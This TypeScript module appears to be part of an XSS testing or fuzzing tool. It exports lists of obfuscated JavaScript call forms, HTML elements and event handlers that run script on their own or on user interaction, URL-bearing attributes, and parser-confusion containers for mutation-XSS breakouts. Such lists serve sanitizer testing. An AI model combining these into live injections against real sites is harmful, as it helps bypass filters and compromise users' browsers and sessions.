/** A text in base64. */
export const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Ways to say `xss(id)`. */
export const CALLS: readonly ((id: number) => string)[] = [
  (id) => `xss(${id})`,
  (id) => `window.xss(${id})`,
  (id) => `self['x'+'ss'](${id})`,
  (id) => `top.xss(${id})`,
  (id) => `(0,xss)(${id})`,
  (id) => `[${id}].map(xss)`,
  (id) => `xss.call(0,${id})`,
  (id) => `x\\u0073s(${id})`,
  (id) => `eval('xss(${id})')`,
  (id) => `setTimeout('xss(${id})')`,
  (id) => `Function('xss(${id})')()`,
  (id) => `eval(atob('${base64(`xss(${id})`)}'))`,
  (id) => `Reflect.apply(xss,0,[${id}])`,
];

/** Elements that run an attribute by themselves. */
export const SELF_FIRING: readonly (readonly [tag: string, event: string, rest?: string])[] = [
  ['img', 'onerror', 'src=x'],
  ['image', 'onerror', 'src=x'],
  ['img', 'onerror', 'srcset=x'],
  ['img', 'onload', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAACAkQBADs='],
  ['svg', 'onload'],
  ['video', 'onerror', 'src=x'],
  ['audio', 'onerror', 'src=x'],
  ['video><source', 'onerror', 'src=x'],
  ['details', 'ontoggle', 'open'],
  ['input', 'onfocus', 'autofocus'],
  ['select', 'onfocus', 'autofocus'],
  ['textarea', 'onfocus', 'autofocus'],
  ['a', 'onfocus', 'autofocus tabindex=1'],
  ['iframe', 'onload'],
  ['object', 'onerror', 'data=x'],
  ['link', 'onerror', 'rel=stylesheet href=x'],
  ['style', 'onload'],
  ['script', 'onerror', 'src=x'],
  ['body', 'onload'],
  ['marquee', 'onstart'],
  ['svg><animate', 'onbegin', 'attributeName=x dur=1s'],
  ['svg><set', 'onbegin', 'attributeName=x'],
  ['svg><image', 'onerror', 'href=x'],
  ['style>@keyframes k{}</style><b', 'onanimationstart', 'style="animation:k 1s"'],
];

/** Events that wait for a reader. */
export const WAITING = [
  ...[
    'onclick',
    'onmouseover',
    'onpointerenter',
    'onwheel',
    'onkeydown',
    'ondragstart',
    'oncontextmenu',
    'onpaste',
    'oncopy',
  ],
  ...[
    'onauxclick',
    'ontouchstart',
    'onbeforeinput',
    'onfocusin',
    'ondblclick',
    'onselectstart',
    'onscroll',
    'oncut',
    'oninput',
  ],
] as const;

/** Attributes that lead somewhere. */
export const LEADING = [
  ...[
    'a href',
    'area href',
    'form action',
    'button formaction',
    'input type=submit formaction',
    'iframe src',
    'object data',
    'embed src',
  ],
  ...[
    'svg><a xlink:href',
    'math href',
    'base href',
    'frame src',
    'a ping',
    'video poster',
    'img src',
    'link rel=stylesheet href',
    'q cite',
  ],
] as const;

/** Holders that one parser reads as text and another as markup: what stands in the attribute breaks out in the second. */
export const HOLDERS = [
  'noscript',
  'textarea',
  'title',
  'xmp',
  'style',
  'iframe',
  'noembed',
  'noframes',
  'template',
  'select',
  'script',
  'listing',
] as const;

/** Foreign contents in which the same tag means something else. */
export const FOREIGN = [
  'math><mtext',
  'svg><desc',
  'svg><foreignObject',
  'svg><title',
  'math><annotation-xml encoding=text/html',
  'math><mi',
  'svg><p',
  'table><svg',
  'form><math><mtext',
  'math><mtext><table><mglyph',
  'math><mtext><mglyph><style',
  'svg><style',
] as const;
